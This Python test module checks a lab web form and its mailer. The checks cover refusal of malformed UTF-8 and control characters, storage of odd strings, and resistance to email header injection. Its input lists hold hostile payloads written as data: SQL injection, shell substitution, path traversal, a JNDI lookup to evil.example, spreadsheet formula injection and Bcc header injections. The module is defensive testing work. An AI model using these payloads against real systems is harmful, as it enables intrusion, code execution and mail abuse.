"""Texts: what is not text, what misleads, and what would like to be a header (A3, A4, A5)."""

import os
import unicodedata

from client import URLENCODED, encode
from forms import address
from octets import malformed, well_formed
from server import part

TITLE = "Texts"
FIELDS = ["first_name", "last_name", "company", "title", "city", "note"]
REFUSED = object()

NOT_TEXT = {
    "a lone FF": b"\xff",
    "a lone 80": b"a\x80b",
    "the first half of two bytes": b"a\xc3",
    "an overlong slash": b"\xc0\xaf",
    "an overlong slash of three": b"\xe0\x80\xaf",
    "an overlong slash of four": b"\xf0\x80\x80\xaf",
    "an overlong NUL": b"a\xc0\x80b",
    "a high surrogate": b"\xed\xa0\x80",
    "a low surrogate": b"\xed\xb0\x80",
    "a pair of surrogates": b"\xed\xa0\xbd\xed\xb8\x80",
    "U+110000": b"\xf4\x90\x80\x80",
    "five bytes": b"\xf8\x88\x80\x80\x80",
    "six bytes": b"\xfc\x84\x80\x80\x80\x80",
    "Latin-1": "Zoë".encode("latin-1"),
    "UTF-16": "Ann".encode("utf-16"),
    "an overlong less-than": b"\xc0\xbcscript\xc0\xbe",
    "the end missing": b"\xf0\x9f\x98",
} | malformed()
CONTROLS = [chr(code)
            for code in range(0x20) if chr(code) not in "\t\n\r"] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
INVISIBLE = "\u200b\u2060\ufeff\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

NAUGHTY = [
    "undefined",
    "null",
    "NULL",
    "None",
    "NaN",
    "Infinity",
    "-1/2",
    "1e309",
    "0x7fffffff",
    "true",
    "()",
    "{}",
    "[]",
    "''",
    "\\",
    "\\\\",
    "\\0",
    "%00",
    "%0d%0a",
    "%s%s%n",
    "%d",
    "$HOME",
    "${jndi:ldap://evil.example/a}",
    "{{first_name}}",
    "{{{raw}}}",
    "{{#leads}}x{{/leads}}",
    "{% raw %}",
    "<%= 7 * 7 %>",
    "#{7*7}",
    "${7*7}",
    "'; DROP TABLE leads; --",
    "' OR 1=1 --",
    "1; ATTACH DATABASE 'x' AS y",
    '" OR ""="',
    "`id`",
    "$(id)",
    "| cat",
    "&& ls",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "`",
    "´",
    "ﷺ",
    "Ω≈ç√∫˜µ≤≥÷",
    "åß∂ƒ©˙∆˚¬…æ",
    "社會科學院語學研究所",
    "찦차를 타고 온 펲시맨과 쑛다리 똠방각하",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",
    "مُنَاقَشَةُ سُبُلِ",
    "בְּרֵאשִׁית, בָּרָא אֱלֹהִים",
    "Ṱ̺̺̕o͞ ̷i̲̬",
    "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜",
    "👾 🙇 💁 🙅",
    "👩‍👩‍👧‍👦",
    "🇺🇸🇷🇺",
    "１２３",
    "١٢٣",
    "\u0130\u0131ſ",
    "ǆ",
    "ﬃ",
    "a\u0301",
    "\u1e9b\u0323",
    "\u212b",
    "\u2126",
    "q\u0307\u0323",
    "\ufdfa",
    "\U0001f1e6",
    "\u0600a",
    "\u0d4ea",
    "\U000e0041",
    "\ufffd",
    "\uffff",
    "\U0010ffff",
    "\ue000",
    "\u2028x",
    "x\u2029y",
    "\u00a0x\u00a0",
    "\u3000x",
    "\u180ex",
    "a\u00adb",
    "=?utf-8?Q?Hi?=",
    "x" * 499,
    "é" * 249,
    "\U0001f600" * 120,
    "a b" * 160,
    "Ann,",
    "Ann;",
    '"Ann" <x@y.example>',
    "Ann (x)",
    "Ann:",
    "@",
    ",,,",
    "> <",
] + well_formed()

INJECTIONS = [
    "a\r\nBcc: victim@evil.example",
    "a\nBcc: victim@evil.example",
    "a\rBcc: victim@evil.example",
    "\r\nBcc: victim@evil.example",
    "a\r\n\r\n<b>a body of theirs</b>",
    "a\r\n Bcc: folded@evil.example",
    "a\r\n\tBcc: folded@evil.example",
    "a%0d%0aBcc: victim@evil.example",
    "a\\r\\nBcc: victim@evil.example",
    "a\u2028Bcc: victim@evil.example",
    "a\u2029Bcc: victim@evil.example",
    "a\u560d\u560aBcc: victim@evil.example",
    "=?utf-8?Q?a=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?B?YQ0KQmNjOiB4QHkuZXhhbXBsZQ==?=",
    "a\r\n.\r\nMAIL FROM:<x@y.example>",
    "a\n.\nMAIL FROM:<x@y.example>",
    ".\r\n.",
    "a\r\n--=_trellis_0--\r\nx",
    "From x\r\nFrom y",
    "a" * 400 + "\r\nBcc: x@y.example",
    ">, <victim@evil.example",
    "a\r\nTo: victim@evil.example\r\nSubject: theirs",
    "a\r\nContent-Type: text/html",
]


def cleaned(text):
    """What is kept of a text: without what cannot be seen, in NFC, each stretch of white space one space."""
    return " ".join(unicodedata.normalize("NFC", "".join(c for c in text if c not in INVISIBLE)).split())


def open_forms(lab):
    lab.forms.open("guide", 270)


def run(lab):
    not_text(lab)
    misleading(lab)
    naughty(lab)
    mails_hold(lab)


def send(lab, pairs, kind, word="text"):
    """Sends a form with these fields; returns the answer and the lead, where there is one."""
    who = address(word)
    answer = lab.forms.send("guide", [("email", who), *pairs], kind)
    return answer, lab.server.lead(who), who


def not_text(lab):
    server, problems, before = lab.server, [], lab.server.counts()
    kept_before = server.value("SELECT count(*) FROM magnets_quarantine")
    token = lab.forms.token("guide")
    for sentence, data in NOT_TEXT.items():
        for kind in ["form", "multipart"]:
            pairs = [(name, data) for name in FIELDS[:1]] + [("email", "x@reader.example")]
            answer = lab.forms.send("guide", pairs, kind, token)
            if answer.status != 400:
                problems.append(f"{sentence} ({kind}): expected 400, found {answer}")
        body = b'{"email": "x@reader.example", "_form": "' + token.encode() + b'", "first_name": "' + data + b'"}'
        answer = lab.public.ask("POST", "/forms/guide", body, {"Content-Type": "application/json"})
        if answer.status != 400:
            problems.append(f"{sentence} (json): expected 400, found {answer}")
    for name in FIELDS + ["email", "_page", "_form", "consent_newsletter", "undeclared"]:
        answer = lab.forms.send("guide", [(name, b"\xff"), ("email", "x@reader.example")], token=token)
        if answer.status != 400:
            problems.append(f"a lone FF in {name}: expected 400, found {answer}")
    for escape in [
            b"\\ud800", b"\\udc00x", b"\\ud800\\u0041", b"\\u0000", b"\\u001b", b"\\u0085", b"\\u00g0", b"\\x41"
    ]:
        body = b'{"email": "x@reader.example", "_form": "' + token.encode() + b'", "first_name": "' + escape + b'"}'
        answer = lab.public.ask("POST", "/forms/guide", body, {"Content-Type": "application/json"})
        if answer.status != 400:
            problems.append(f"{escape} in JSON: expected 400, found {answer}")
    lab.report.none("A3", f"what is no UTF-8 is refused in every field, in {len(NOT_TEXT)} ways", problems)
    problems = []
    for control in CONTROLS:
        for kind in ["form", "multipart", "json"]:
            pairs = [("email", "x@reader.example"), ("first_name", f"a{control}b")]
            answer = lab.forms.send("guide", pairs, kind, token)
            if answer.status != 400:
                problems.append(f"U+{ord(control):04X} ({kind}): expected 400, found {answer}")
    for name in [b"first\x00name", b"first\rname", b"\xff", b"a" * 201, b"a\xc2\x85"]:
        body, _ = encode([("email", "x@reader.example"), ("_form", token)])
        answer = lab.public.ask("POST", "/forms/guide", body + b"&" + encode([(name, "x")])[0],
                                {"Content-Type": URLENCODED})
        if answer.status != 400:
            problems.append(f"the name {name[:20]}: expected 400, found {answer}")
    lab.report.none("A3", "NUL and the other control characters are refused, in values and in names", problems)
    piles = [
        lab.forms.send("guide", {"email": "x@reader.example", "note": "a" + "\u0301" * n}, token=token).status
        for n in [31, 1000, 20_000]
    ]
    lab.report.same("A3", "a pile of marks on a letter is refused", piles, [400, 400, 400])
    server.settle()
    found = server.counts(), server.value("SELECT count(*) FROM magnets_quarantine")
    lab.report.same("A3", "and of all that there is nothing in the file", found, (before, kept_before))


def misleading(lab):
    problems = []
    for character in INVISIBLE:
        for kind in ["form", "multipart", "json"]:
            value = f"{character}An{character}n{character}"
            answer, lead, _ = send(lab, [(name, value) for name in FIELDS], kind)
            found = {name: lead[name] for name in FIELDS} if lead else answer
            if found != {name: "Ann" for name in FIELDS}:
                problems.append(f"U+{ord(character):04X} ({kind}): expected 'Ann' in each field, found {found}")
    lab.report.none("A3", "what cannot be seen and turns the direction of a text is left out", problems)
    problems = []
    for end in ["\r\n", "\n", "\r", "\t"]:
        answer, lead, _ = send(lab, [(name, f"a{end}b") for name in FIELDS[:5]], "form")
        held = [name for name in FIELDS[:5] if lead and end in (lead[name] or "")]
        if held:
            problems.append(f"{end!r}: expected a refusal or a space, found it in {held}")
    lab.report.none("A4", "a line end in a name, a company or a city is refused or becomes a space", problems)


def naughty(lab):
    problems, api = [], []
    for index, text in enumerate(NAUGHTY):
        kind = ["form", "multipart", "json"][index % 3]
        answer, lead, _ = send(lab, [(name, text) for name in FIELDS], kind, "naughty")
        if lead is None:
            problems.append(f"{text[:30]!r} ({kind}): no lead, {answer}")
            continue
        # White space may become one space: these are fields of one line.
        wanted = {cleaned(text) or None, " ".join(cleaned(text).split()) or None}
        found = {name: lead[name] for name in FIELDS}
        if not set(found.values()) <= wanted:
            problems.append(f"{text[:30]!r} ({kind}): expected {wanted!r:.60}, found {found!r:.200}")
        shown = lab.server.ask_admin("GET", f"/api/leads/{lead['id']}").json()
        if {name: shown.get(name)
                for name in ["first_name", "last_name", "company", "note"]
            } != {name: found[name]
                  for name in ["first_name", "last_name", "company", "note"]}:
            api.append(f"{text[:30]!r}: {shown.get('first_name')!r:.80}")
    lab.report.none("A3", f"{len(NAUGHTY)} odd texts are kept byte by byte, in NFC", problems)
    lab.report.none("A3", "and the API says them as they are kept", api)


# A4, A5

HEADERS = ["auto-submitted", "content-type", "date", "from", "message-id", "mime-version", "subject", "to"]
# One click to leave is offered over https alone, and this site has none.
BULK = ["feedback-id", "list-id", "list-unsubscribe"]


def mails_hold(lab):
    """Every injection in every field of a mail, and then every mail of the site so far."""
    for index, text in enumerate(INJECTIONS):
        pairs = [(name, text) for name in FIELDS] + [("consent_newsletter", "on")]
        answer, _, _ = send(lab, pairs, ["form", "multipart", "json"][index % 3], "inject")
        if answer.status not in (200, 303, 400, 422):
            lab.report.none("A4", "an injection is answered", [f"{text!r}: {answer}"])
    lab.server.settle()
    lab.report.none("A4", f"no text becomes a header of a mail, in {len(lab.server.mails())} mails", headers(lab))
    lab.report.none("A5", "no line of a mail is long, bare, 8-bit, or a dot alone", lines(lab))
    lab.report.none("A4", "the subject says what was typed, and nothing else", subjects(lab))
    held = lab.server.rows(
        "SELECT key, reason FROM outbox_messages WHERE state NOT IN ('sent', 'cancelled') AND lead_id IN "
        "(SELECT id FROM leads WHERE email LIKE 'inject%' OR email LIKE 'naughty%')")
    lab.report.none("A4", "no text holds a mail up", [tuple(row) for row in held])


def headers(lab):
    problems, leads = [], {row[0] for row in lab.server.rows("SELECT email FROM leads")}
    for mail in lab.server.mails():
        found = sorted(name.lower() for name in mail.keys())
        if found not in (HEADERS, sorted(HEADERS + BULK)):
            problems.append(f"{mail['To']}: the headers {found}")
        to = mail["To"].addresses
        if len(to) != 1 or to[0].addr_spec not in leads or to[0].display_name:
            problems.append(f"{mail['To']}: not one lead")
        if str(mail["From"]) != "Ann of Attacked <ann@crm.example>":
            problems.append(f"{mail['To']}: From {mail['From']}")
        if mail.defects or any(one.defects for one in mail.walk()):
            problems.append(f"{mail['To']}: {mail.defects}")
        types = [one.get_content_type() for one in mail.walk()]
        if types != ["multipart/alternative", "text/plain", "text/html"]:
            problems.append(f"{mail['To']}: the parts {types}")
    return problems


def lines(lab):
    problems, folder = [], os.path.join(lab.server.site, "outbox", "new")
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), "rb") as file:
            data = file.read()
        rows = data.split(b"\r\n")
        if any(b"\r" in row or b"\n" in row for row in rows):
            problems.append(f"{name}: a bare line end")
        if max(map(len, rows)) > 998 or not data.isascii() or b"\0" in data:
            problems.append(f"{name}: a long line, or no ASCII")
        if any(row.startswith(b".") for row in rows):
            problems.append(f"{name}: a line that begins with a dot")
    return problems


def subjects(lab):
    problems = []
    for mail in lab.server.mails():
        lead = lab.server.lead(str(mail["To"]))
        if not str(mail["Subject"]).endswith(": The guide") or lead is None:
            continue
        first, company = (" ".join((lead[name] or "").split()) for name in ["first_name", "company"])
        wanted = f"{first or 'You'} of {company or 'nowhere'}: The guide"
        found = " ".join(str(mail["Subject"]).split())
        if found != wanted:
            problems.append(f"{lead['email']}: expected {wanted!r:.90}, found {found!r:.90}")
        if company and company[:40] not in " ".join(part(mail, "plain").split()):
            problems.append(f"{lead['email']}: the text does not say {company[:40]!r}")
    return problems
